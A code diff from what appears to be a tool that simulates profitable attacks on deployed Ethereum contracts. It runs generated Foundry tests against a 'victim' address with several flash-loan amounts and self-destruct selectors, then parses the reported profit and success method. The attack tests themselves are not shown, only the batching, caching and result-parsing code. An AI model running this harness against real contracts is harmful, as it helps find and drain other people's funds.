@@ -1114,199 +1985,515 @@ def run_honeypot_simulation_eth(victim_address: str, rpc_url: str, w3: Optional[
         if sd_selectors:
             logger.info(f"Injecting Self-Destruct selectors for {target}")
 
-    endpoints: List[str] = []
-    if rpc_url:
-        endpoints.append(rpc_url)
-    for e in RPCS:
-        if e not in endpoints:
-            endpoints.append(e)
+    victim_selectors = _victim_selectors(w3 or get_shared_w3(rpc_url or RPCS[0]), implementation_address or victim_address)
 
     best_result_overall: Dict[str, Any] = {}
     last_result: Dict[str, Any] = {} # Initialize last_result
 
-    for endpoint in endpoints:
-        base_content = generate_honeypot_test_eth(victim_address, endpoint, sd_selectors, bug_type)
-        scenarios: List[Dict[str, Any]] = []
-
-        scenarios.append({
-            "label": "20_eth",
-            "amount_wei": 20 * 10**18,
-            "content": base_content
-        })
-        scenarios.append({
-            "label": "10_eth",
-            "amount_wei": 10 * 10**18,
-            "content": base_content.replace("uint256 amount = 20 ether;", "uint256 amount = 10 ether;")
-        })
-        scenarios.append({
-            "label": "5_eth",
-            "amount_wei": 5 * 10**18,
-            "content": base_content.replace("uint256 amount = 20 ether;", "uint256 amount = 5 ether;")
-        })
-        scenarios.append({
-            "label": "1_eth",
-            "amount_wei": 1 * 10**18,
-            "content": base_content.replace("uint256 amount = 20 ether;", "uint256 amount = 1 ether;")
-        })
-        scenarios.append({
-            "label": "0_1_eth",
-            "amount_wei": int(0.1 * 10**18),
-            "content": base_content.replace("uint256 amount = 20 ether;", "uint256 amount = 0.1 ether;")
-        })
-        scenarios.append({
-            "label": "0_01_eth",
-            "amount_wei": int(0.01 * 10**18),
-            "content": base_content.replace("uint256 amount = 20 ether;", "uint256 amount = 0.01 ether;")
-        })
-        scenarios.append({
-            "label": "0_001_eth",
-            "amount_wei": int(0.001 * 10**18),
-            "content": base_content.replace("uint256 amount = 20 ether;", "uint256 amount = 0.001 ether;")
-        })
-        scenarios.append({
-            "label": "1_wei",
-            "amount_wei": 1,
-            "content": base_content.replace("uint256 amount = 20 ether;", "uint256 amount = 1 wei;")
-        })
-
-        current_best: Dict[str, Any] = {}
-
-        async def _run_one(sc, delay: float):
-            await asyncio.sleep(delay)
-            loop = asyncio.get_running_loop()
-            return await loop.run_in_executor(None, _run_forge_test, victim_address, sc["content"], sc["label"])
-
-        async def _run_batch():
-            tasks = []
-            for idx, sc in enumerate(scenarios):
-                tasks.append(_run_one(sc, idx * 0.1))
-            return await asyncio.gather(*tasks)
-
-        results = []
-        try:
-            if os.name == "nt":
-                for idx, sc in enumerate(scenarios):
-                    time.sleep(0.1 * idx)
-                    result = _run_forge_test(victim_address, sc["content"], sc["label"])
-                    results.append(result)
-            else:
-                results = asyncio.run(_run_batch())
-        except Exception as e:
-            logger.error(f"Parallel simulation failed: {e}")
+    # All flash-loan amounts run as tests of one file, shared by every endpoint
+    content = generate_honeypot_test_eth(sd_selectors, bug_type, victim_selectors)
+    test_labels = _scenario_tests(_ETH_AMOUNT_TESTS, _ETH_FLASH_AMOUNTS)
+    loan_amounts = {label: abs(int(amount_wei)) for label, _, amount_wei in _ETH_FLASH_AMOUNTS}
+
+    with _simulation_endpoints(rpc_url) as endpoints:
+        for endpoint in endpoints:
+            _prefetch_accounts(endpoint, [victim_address, implementation_address])
+            env = _honeypot_env(endpoint, victim_address)
+
+            current_best: Dict[str, Any] = {}
+            rate_limited = False
+
+            results = {}
+            try:
+                results = _run_forge_scenarios(content, test_labels, env)
+            except Exception as e:
+                logger.error(f"Batched simulation failed: {e}")
+            if _upstream_failed(results):
+                logger.warning(f"ETH simulation could not read state through {endpoint}; trying the next endpoint")
+                last_result = next(iter(results.values()))
+                continue
         
-        for i, result in enumerate(results):
-            scenario = scenarios[i]
-            value = abs(int(scenario["amount_wei"]))
-            # print(f"!!! SIMULATION DEBUG: value={value}", flush=True)
-            
-            result["loan_amount_wei"] = value
-            last_result = result
+            for label, result in results.items():
+                if label in loan_amounts:
+                    # The shared tests take no flash loan; the executor keeps its default amount for them
+                    result["loan_amount_wei"] = loan_amounts[label]
+                last_result = result
 
-            combined = f"{result.get('error') or ''}\n{result.get('output') or ''}"
-            if "429" in combined or "Too Many Requests" in combined:
-                logger.warning(f"RPC 429 detected during ETH simulation on {endpoint}, backing off for 0.5 seconds")
-                time.sleep(0.5)
-                break
+                if _is_rate_limited(result):
+                    # _run_forge_paced already slowed this endpoint down; move on to the next one
+                    logger.warning(f"RPC 429 detected during ETH simulation on {endpoint}")
+                    rate_limited = True
+                    break
+
+                if result.get("safe") and result.get("simulated_profit", 0) > 0:
+                    return result
 
-            if result.get("safe") and result.get("simulated_profit", 0) > 0:
-                return result
+                if not current_best or result.get("simulated_profit", 0) > current_best.get("simulated_profit", 0):
+                    current_best = result
 
-            if not current_best or result.get("simulated_profit", 0) > current_best.get("simulated_profit", 0):
-                current_best = result
+            if current_best.get("simulated_profit", 0) > best_result_overall.get("simulated_profit", 0):
+                best_result_overall = current_best
 
-        if current_best.get("simulated_profit", 0) > best_result_overall.get("simulated_profit", 0):
-            best_result_overall = current_best
+            if AnvilForkManager.owns(endpoint) and not rate_limited:
+                # The fork answered; the remote endpoints only stand in for a failed upstream
+                break
             
-        # Continue to next endpoint if no success returned
+            # Continue to next endpoint if no success returned
 
     return best_result_overall if best_result_overall else last_result
 
-def _run_forge_test(victim_address: str, test_content: str, unique_id: str = "") -> Dict[str, Any]:
-    # Save to temporary file
-    suffix = f"_{unique_id}" if unique_id else ""
-    test_file = f"test/Honeypot_{victim_address[:8]}{suffix}.t.sol"
-    
-    # Ensure test dir exists
-    if not os.path.exists("test"):
-        os.makedirs("test")
-        
-    with open(test_file, "w") as f:
-        f.write(test_content)
-        
+def run_honeypot_simulations_batch(jobs: List[Dict[str, Any]], max_workers: Optional[int] = None) -> List[Dict[str, Any]]:
+    """
+    Run several victims' simulations concurrently.
+
+    Each job is a dict with "mode" ("token" or "eth") plus the keyword
+    arguments of run_honeypot_simulation_token / run_honeypot_simulation_eth.
+    Forge child processes do the heavy lifting, so threads are enough; a
+    process pool would also give every worker its own anvil fork and caches.
+    Results are returned in job order.
+    """
+    if not jobs:
+        return []
+
+    def _run_job(job: Dict[str, Any]) -> Dict[str, Any]:
+        kwargs = {k: v for k, v in job.items() if k != "mode"}
+        try:
+            if job.get("mode") == "token":
+                return run_honeypot_simulation_token(**kwargs)
+            return run_honeypot_simulation_eth(**kwargs)
+        except Exception as e:
+            logger.error(f"Batch simulation failed for {job.get('victim_address')}: {e}")
+            return {"safe": False, "error": str(e)}
+
+    # One batched eth_getCode per chain for every self-destruct target instead of one per worker
+    sd_targets: Dict[int, Tuple[Web3, List[str]]] = {}
+    for job in jobs:
+        if job.get("bug_type") == "self_destruct" and job.get("w3") is not None:
+            entry = sd_targets.setdefault(id(job["w3"]), (job["w3"], []))
+            entry[1].append(job.get("implementation_address") or job.get("victim_address"))
+    for w3, targets in sd_targets.values():
+        _detect_self_destruct_selectors_batch(w3, targets)
+
+    workers = max(1, min(len(jobs), max_workers or SIM_MAX_WORKERS))
+    with ThreadPoolExecutor(max_workers=workers, thread_name_prefix="honeypot-sim") as pool:
+        return list(pool.map(_run_job, jobs))
+
+def _ensure_forge_built() -> None:
+    """Compile the non-test sources (forge-std) once into the shared out dir."""
+    global _FORGE_BUILT
+    if _FORGE_BUILT:
+        return
+    with _FORGE_BUILD_LOCK:
+        if _FORGE_BUILT:
+            return
+        os.makedirs(_HONEYPOT_DIR, exist_ok=True)
+        try:
+            subprocess.run(
+                [_FORGE_BIN, "build", "--skip", "test", "--remappings", _FORGE_REMAPPINGS],
+                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, shell=False, env=_FORGE_ENV,
+            )
+        except Exception as e:
+            logger.debug(f"forge prebuild failed: {e}")
+        _FORGE_BUILT = True
+
+
+def cleanup_honeypot_tests(older_than_seconds: float = 3600) -> int:
+    """
+    Remove generated honeypot tests older than the given age.
+
+    Args:
+        older_than_seconds: Minimum file age (mtime) to delete
+
+    Returns:
+        Number of files removed
+    """
+    removed = 0
+    cutoff = time.time() - older_than_seconds
     try:
-        cmd = f"forge test --match-path {test_file} --remappings forge-std/=lib/forge-std/src/ -vvvv"
-        
-        # On Windows, shell=True is often required for 'forge' command to be found if it's not in the immediate path or requires env vars
-        result = subprocess.run(cmd, capture_output=True, text=True, shell=True)
-        
-        # Check if output is empty (which happens if forge is not found or fails silently)
-        if not result.stdout and not result.stderr:
-             return {"safe": False, "error": "Forge command returned empty output. Is Foundry installed and in PATH?"}
+        entries = list(os.scandir(_HONEYPOT_DIR))
+    except OSError:
+        return 0
+    for entry in entries:
+        if not (entry.name.startswith("Honeypot_") and entry.name.endswith(".t.sol")):
+            continue
+        try:
+            if entry.stat().st_mtime <= cutoff:
+                os.remove(entry.path)
+                removed += 1
+        except OSError:
+            pass
+    return removed
 
-        is_safe = "PASS" in result.stdout
-        
-        # Extract success method if present
-        success_method = None
-        profit_wei = 0
-        
-        if is_safe:
-            import re
-            method_match = re.search(r"SUCCESS_METHOD: (.*)", result.stdout)
-            if method_match:
-                success_method = method_match.group(1).strip()
-                
-                # If Deep Search, extract the selector
-                if success_method == "deep_search":
-                    # Look for SELECTOR: followed by hex on new line or same line
-                    # forge-std console.logBytes4 output typically on new line
-                    sel_match = re.search(r"SELECTOR:.*?((?:0x)[a-fA-F0-9]{8})", result.stdout, re.DOTALL)
-                    if sel_match:
-                        success_method = f"deep_search_{sel_match.group(1)}"
-            
-            profit_match = re.search(r"PROFIT_WEI: (.*)", result.stdout)
-            if profit_match:
+
+atexit.register(cleanup_honeypot_tests)
+
+
+def _capture_forge(cmd: List[str], env: Optional[Dict[str, str]] = None) -> Tuple[str, str]:
+    """
+    Run forge to completion and return (stdout, stderr).
+
+    A run exceeding SIM_FORGE_TIMEOUT_SEC is terminated and, if it has not
+    exited after _FORGE_TERM_GRACE_SEC, killed; whatever it printed by then
+    is returned with the timeout noted in stderr.
+    """
+    with _FORGE_SLOTS, subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, encoding="utf-8", errors="replace", shell=False, env={**_FORGE_ENV, **(env or {})}) as proc:
+        try:
+            return proc.communicate(timeout=SIM_FORGE_TIMEOUT_SEC)
+        except subprocess.TimeoutExpired:
+            proc.terminate()
+            try:
+                stdout, stderr = proc.communicate(timeout=_FORGE_TERM_GRACE_SEC)
+            except subprocess.TimeoutExpired:
+                proc.kill()
                 try:
-                    p_str = profit_match.group(1).strip()
-                    if p_str.startswith("-"):
-                        # remove extra space if present, e.g. "- 123"
-                        p_str = p_str.replace(" ", "")
-                    profit_wei = int(p_str)
-                except:
-                    pass
-
-        error_msg = result.stderr
-        if not is_safe and result.stdout:
-            # Try to extract a clean failure reason from stdout
-            # Look for lines like: [FAIL: Deposit failed] or [FAIL. Reason: ...]
-            import re
-            # Regex to capture [FAIL: reason]
-            fail_match = re.search(r"\[FAIL: (.*?)\]", result.stdout)
-            if fail_match:
-                error_msg = f"Simulation Reverted: {fail_match.group(1)}"
-            else:
-                # If no specific fail message, but we have stdout, return relevant lines (avoiding compiler logs)
-                # Filter out "Compiling...", "Solc...", "Compiler run successful"
-                lines = [line for line in result.stdout.splitlines() if not line.startswith(("[", "Solc", "Compiler", "Ran 1 test", "Suite result"))]
-                error_msg = "\n".join(lines).strip()
-                if not error_msg:
-                    error_msg = result.stdout # Fallback to full output if filtering leaves nothing
-        elif not is_safe and not error_msg:
-             error_msg = "Unknown error (Simulation failed but no stderr/stdout reason found)"
-
-        return {
-            "safe": is_safe,
-            "output": result.stdout,
-            "error": error_msg,
-            "method": success_method,
-            "simulated_profit": profit_wei
-        }
+                    stdout, stderr = proc.communicate(timeout=_FORGE_TERM_GRACE_SEC)
+                except subprocess.TimeoutExpired as e:
+                    # A leftover grandchild still holds the pipes; keep what was read
+                    stdout, stderr = (
+                        part.decode("utf-8", "replace") if isinstance(part, bytes) else part or ""
+                        for part in (e.stdout, e.stderr)
+                    )
+    return stdout, f"{stderr}\nforge test timed out after {SIM_FORGE_TIMEOUT_SEC}s".lstrip()
+
+
+def _load_forge_json(stdout: str) -> Optional[Dict[str, Any]]:
+    """forge's --json report, or None when stdout is not one."""
+    try:
+        report = json.loads(stdout[stdout.index("{"):])
+    except (ValueError, TypeError):
+        return None
+    return report if isinstance(report, dict) else None
+
+
+def _balance_profit(start: Optional[str], final: Optional[str]) -> Optional[int]:
+    """max(0, FINAL_BAL - START_BAL), or None unless both balances were logged."""
+    if start is None or final is None:
+        return None
+    return max(0, int(final) - int(start))
+
+
+def _json_test_outcome(test: Dict[str, Any]) -> Tuple[Optional[str], int]:
+    """
+    SUCCESS_METHOD (with the deep_search selector) and profit logged by one test.
+
+    PROFIT_WEI wins; failing that the profit comes from the test's own
+    START_BAL/FINAL_BAL pair, so balances never pair across tests.
+    """
+    logs = test.get("decoded_logs") or []
+    method: Optional[str] = None
+    profit: Optional[int] = None
+    balances: Dict[str, str] = {}
+    for i, log in enumerate(logs):
+        key, _, value = log.strip().partition(":")
+        value = value.strip()
+        if key == "SUCCESS_METHOD" and method is None:
+            method = value
+            if value == "deep_search":
+                # console.logBytes4 follows the "SELECTOR:" log as its own entry
+                sel_match = _SELECTOR_RE.search("\n".join(logs[i:]))
+                if sel_match:
+                    method = f"deep_search_{sel_match.group(1)}"
+        elif key == "PROFIT_WEI" and profit is None:
+            try:
+                profit = int(value)
+            except ValueError:
+                pass
+        elif key in ("START_BAL", "FINAL_BAL") and value.isdigit():
+            balances.setdefault(key, value)
+    if profit is None:
+        profit = _balance_profit(balances.get("START_BAL"), balances.get("FINAL_BAL"))
+    return method, profit or 0
+
+
+def _summarize_json_tests(tests: List[Dict[str, Any]], stderr: str) -> Dict[str, Any]:
+    """
+    Fold the JSON results of one scenario's tests into a result dict.
+
+    Method and profit are read per test and taken from the most profitable
+    passing test, so a flag logged by one test never lends its profit to
+    another.
+    """
+    fail_reason: Optional[str] = None
+    lines: List[str] = []
+    passing: List[Tuple[Optional[str], int]] = []
+
+    for test in tests:
+        lines.extend(test.get("decoded_logs") or [])
+        if test.get("status") == "Success":
+            passing.append(_json_test_outcome(test))
+        elif fail_reason is None and test.get("reason"):
+            fail_reason = test["reason"]
+            lines.append(fail_reason)
+        if test.get("trace"):
+            lines.append(test["trace"])
+
+    # max() keeps the first of equally profitable tests, i.e. report order
+    best = max(passing, key=lambda outcome: outcome[1], default=None)
+    is_safe = best is not None
+
+    if is_safe:
+        error_msg = stderr
+    elif fail_reason is not None:
+        error_msg = f"Simulation Reverted: {fail_reason}"
+    else:
+        error_msg = stderr or "Unknown error (Simulation failed but no stderr/stdout reason found)"
+
+    return {
+        "safe": is_safe,
+        "output": "\n".join(lines),
+        "error": error_msg,
+        "method": best[0] if is_safe else None,
+        "simulated_profit": best[1] if is_safe else 0
+    }
+
+
+def _parse_forge_json_scenarios(report: Dict[str, Any], stderr: str, test_labels: Dict[str, str]) -> Dict[str, Dict[str, Any]]:
+    """
+    Split a one-file `forge test --json` report into one result per scenario.
+
+    Tests listed in test_labels count only for their scenario. Every other
+    test does not depend on the amount and is reported on its own under
+    _SHARED_LABEL, so its outcome never marks a scenario safe.
+    """
+    grouped: Dict[str, List[Dict[str, Any]]] = {label: [] for label in _scenario_labels(test_labels)}
+    for suite in report.values():
+        for signature, test in ((suite or {}).get("test_results") or {}).items():
+            grouped[test_labels.get(signature, _SHARED_LABEL)].append(test)
+
+    return {label: _summarize_json_tests(tests, stderr) for label, tests in grouped.items()}
+
+
+def _test_sections(stdout: str) -> Dict[str, Tuple[Optional[str], str]]:
+    """Map test name -> (failure reason, logs/traces below its result line) in a text `forge test` output."""
+    matches = list(_TEST_LINE_RE.finditer(stdout))
+    return {
+        m.group("name"): (m.group("reason"), stdout[m.end():matches[i + 1].start() if i + 1 < len(matches) else len(stdout)])
+        for i, m in enumerate(matches) if m.group("name")
+    }
+
+
+def _trace_failures(cmd: List[str], env: Optional[Dict[str, str]], report: Dict[str, Any]) -> None:
+    """
+    Rerun the report's failed tests that gave no reason, at -vvvv.
+
+    Only those tests are matched, so the deep traces are produced for them
+    alone; the reason (or the trace, lacking one) is written into the report.
+    With SIM_FORGE_TRACE every failed test is rerun and keeps its trace.
+
+    The rerun forks again, so it takes a token from env's SIM_RPC_URL
+    bucket; the traces are only diagnostics, so it is skipped rather than
+    waited for when none is free, and a rate-limited rerun throttles the
+    bucket and leaves the report as it was.
+    """
+    failed: Dict[str, Dict[str, Any]] = {
+        signature.split("(", 1)[0]: test
+        for suite in report.values()
+        for signature, test in ((suite or {}).get("test_results") or {}).items()
+        if test.get("status") == "Failure" and (SIM_FORGE_TRACE or not test.get("reason"))
+    }
+    if not failed:
+        return
+
+    endpoint = (env or {}).get("SIM_RPC_URL")
+    bucket = _rpc_bucket(endpoint) if endpoint else None
+    if bucket is not None and not bucket.try_acquire():
+        logger.debug(f"Skipping failure traces; {endpoint} has no RPC budget left")
+        return
+
+    trace_cmd = [arg for arg in cmd if arg != "--json"]
+    trace_out, trace_err = _capture_forge(trace_cmd + ["--match-test", "^(" + "|".join(map(re.escape, failed)) + ")$", "-vvvv"], env)
+    if bucket is not None:
+        if _RATE_LIMIT_RE.search(trace_out) or _RATE_LIMIT_RE.search(trace_err):
+            bucket.throttled(_retry_after([{"output": trace_out, "error": trace_err}]))
+            return
+        bucket.succeeded()
+    for name, (reason, section) in _test_sections(trace_out).items():
+        test = failed.get(name)
+        if test is None:
+            continue
+        # The section opens with the rest of the result line, "() (gas: ...)"
+        trace = "\n".join(line for line in section.splitlines()[1:] if line.strip()).strip()
+        if SIM_FORGE_TRACE:
+            test["trace"] = trace
+        if not test.get("reason"):
+            test["reason"] = reason or trace or None
+
+
+def _parse_forge_output(stdout: str, stderr: str) -> Dict[str, Any]:
+    """Turn one suite's forge output into a simulation result dict."""
+    is_safe = "PASS" in stdout
+
+    # Extract success method if present
+    success_method = None
+    profit_wei = 0
+
+    # Single pass over the output; first occurrence of each marker wins
+    method_str = profit_str = start_str = final_str = fail_reason = None
+    for m in _OUT_RE.finditer(stdout):
+        if m.group("method") is not None:
+            if method_str is None:
+                method_str = m.group("method")
+        elif m.group("profit") is not None:
+            if profit_str is None:
+                profit_str = m.group("profit")
+        elif m.group("start") is not None:
+            if start_str is None:
+                start_str = m.group("start")
+        elif m.group("final") is not None:
+            if final_str is None:
+                final_str = m.group("final")
+        elif fail_reason is None:
+            fail_reason = m.group("fail")
+
+    if is_safe:
+        if method_str is not None:
+            success_method = method_str.strip()
+
+            # If Deep Search, extract the selector
+            if success_method == "deep_search":
+                # Look for SELECTOR: followed by hex on new line or same line
+                # forge-std console.logBytes4 output typically on new line
+                sel_match = _SELECTOR_RE.search(stdout) if "SELECTOR:" in stdout else None
+                if sel_match:
+                    success_method = f"deep_search_{sel_match.group(1)}"
+
+        if profit_str is not None:
+            profit_wei = int(profit_str)
+        else:
+            profit_wei = _balance_profit(start_str, final_str) or 0
+
+    error_msg = stderr
+    if not is_safe and stdout:
+        # Try to extract a clean failure reason from stdout
+        # Look for lines like: [FAIL: Deposit failed] or [FAIL. Reason: ...]
+        if fail_reason is not None:
+            error_msg = f"Simulation Reverted: {fail_reason}"
+        else:
+            # If no specific fail message, but we have stdout, return relevant lines (avoiding compiler logs)
+            # Filter out "Compiling...", "Solc...", "Compiler run successful"
+            error_msg = "\n".join(line for line in stdout.splitlines() if not line.startswith(_NOISE_PREFIXES)).strip()
+            if not error_msg:
+                error_msg = stdout # Fallback to full output if filtering leaves nothing
+    elif not is_safe and not error_msg:
+         error_msg = "Unknown error (Simulation failed but no stderr/stdout reason found)"
+
+    return {
+        "safe": is_safe,
+        "output": stdout,
+        "error": error_msg,
+        "method": success_method,
+        "simulated_profit": profit_wei
+    }
+
+
+def _result_key(content: str, env: Optional[Dict[str, str]]) -> str:
+    """_SIM_RESULT_CACHE key: the source plus the SIM_* variables it runs with."""
+    material = content + "\0" + json.dumps(env or {}, sort_keys=True)
+    return hashlib.sha1(material.encode()).hexdigest()[:16]
+
+
+def _cache_result(key: str, result: Dict[str, Any]) -> None:
+    """Keep a finished result unless it errored out or hit a rate limit."""
+    if "output" in result and not _is_rate_limited(result):
+        with _SIM_RESULT_CACHE_LOCK:
+            if len(_SIM_RESULT_CACHE) >= _SIM_RESULT_CACHE_MAX:
+                _SIM_RESULT_CACHE.clear()
+            _SIM_RESULT_CACHE[key] = dict(result)
+
+
+def _run_forge_scenarios(content: str, test_labels: Dict[str, str], env: Optional[Dict[str, str]] = None) -> Dict[str, Dict[str, Any]]:
+    """
+    Run one generated test file holding every amount scenario.
+
+    Args:
+        content: Solidity source with one wrapper test per (test, scenario)
+        test_labels: Wrapper test signature -> scenario label (see _scenario_tests)
+        env: SIM_* variables for this run (see _honeypot_env)
+
+    Returns:
+        Scenario label -> result dict, amounts in first-seen order, then
+        _SHARED_LABEL for the tests that take no amount
+    """
+    labels = _scenario_labels(test_labels)
+    key = _result_key(content, env)
+    with _SIM_RESULT_CACHE_LOCK:
+        cached = {label: _SIM_RESULT_CACHE.get(f"{key}:{label}") for label in labels}
+    if all(result is not None for result in cached.values()):
+        return {label: dict(result) for label, result in cached.items()}
+
+    results = _run_forge_paced(content, test_labels, env)
+    for label, result in results.items():
+        _cache_result(f"{key}:{label}", result)
+    return results
+
+
+def _write_test_file(content: str) -> str:
+    """
+    Place `content` at test/_honeypots/Honeypot_<content hash>.t.sol.
+
+    The name depends on the source only, so identical tests (same bug type,
+    selectors and fee tiers, whatever the victim or endpoint) land on the
+    same path and forge reuses the cached compilation. Existing files are
+    not rewritten, only touched so the age-based cleanup keeps them.
+    """
+    data = content.encode()
+    name = f"Honeypot_{hashlib.sha1(data).hexdigest()[:16]}.t.sol"
+    path = os.path.join(_HONEYPOT_DIR, name)
+    if os.path.exists(path):
+        try:
+            os.utime(path)
+        except OSError:
+            pass
+        return path
+    # Write-then-rename: a parallel worker never sees a half-written source
+    fd, tmp = tempfile.mkstemp(prefix=".Honeypot_", suffix=".part", dir=_HONEYPOT_DIR)
+    with os.fdopen(fd, "wb") as f:
+        f.write(data)
+    os.replace(tmp, path)
+    return path
+
+
+def _run_forge_files(content: str, test_labels: Dict[str, str], env: Optional[Dict[str, str]] = None) -> Dict[str, Dict[str, Any]]:
+    """
+    Write the source under _HONEYPOT_DIR and run it with `forge test --json`.
+
+    The JSON report is split per scenario (see _parse_forge_json_scenarios).
+    """
+    _ensure_forge_built()
+    labels = _scenario_labels(test_labels)
+
+    # forge compiles every file under test/, so only files that compiled are kept around
+    test_file = _write_test_file(content)
+    keep_files = False
+    try:
+        # Only decoded console logs and failure reasons are parsed; traces are only asked for
+        # on a rerun of the failures that gave no reason, or of all of them with SIM_FORGE_TRACE
+        cmd = [
+            _FORGE_BIN, "test", "--match-path", test_file, "--match-contract", "Honeypot",
+            "--remappings", _FORGE_REMAPPINGS, "--json",
+        ]
+
+        # No intermediate shell: forge is resolved once via shutil.which (honours PATHEXT on Windows)
+        stdout, stderr = _capture_forge(cmd, env)
+
+        # Check if output is empty (which happens if forge is not found or fails silently)
+        if not stdout and not stderr:
+            return {label: {"safe": False, "error": "Forge command returned empty output. Is Foundry installed and in PATH?"} for label in labels}
+
+        keep_files = "Compiler run failed" not in stderr and "Compiler run failed" not in stdout
+        report = _load_forge_json(stdout) if keep_files else None
+        if report is None:
+            # Not a JSON report (compile error, older forge): fall back to the text output
+            return {label: _parse_forge_output(stdout, stderr) for label in labels}
+
+        _trace_failures(cmd, env, report)
+        return _parse_forge_json_scenarios(report, stderr, test_labels)
     except Exception as e:
         logger.error(f"Simulation failed: {e}")
-        return {"safe": False, "error": str(e)}
+        return {label: {"safe": False, "error": str(e)} for label in labels}
     finally:
-        # Cleanup
-        if os.path.exists(test_file):
+        if not keep_files:
             try:
                 os.remove(test_file)
-            except:
+            except OSError:
                 pass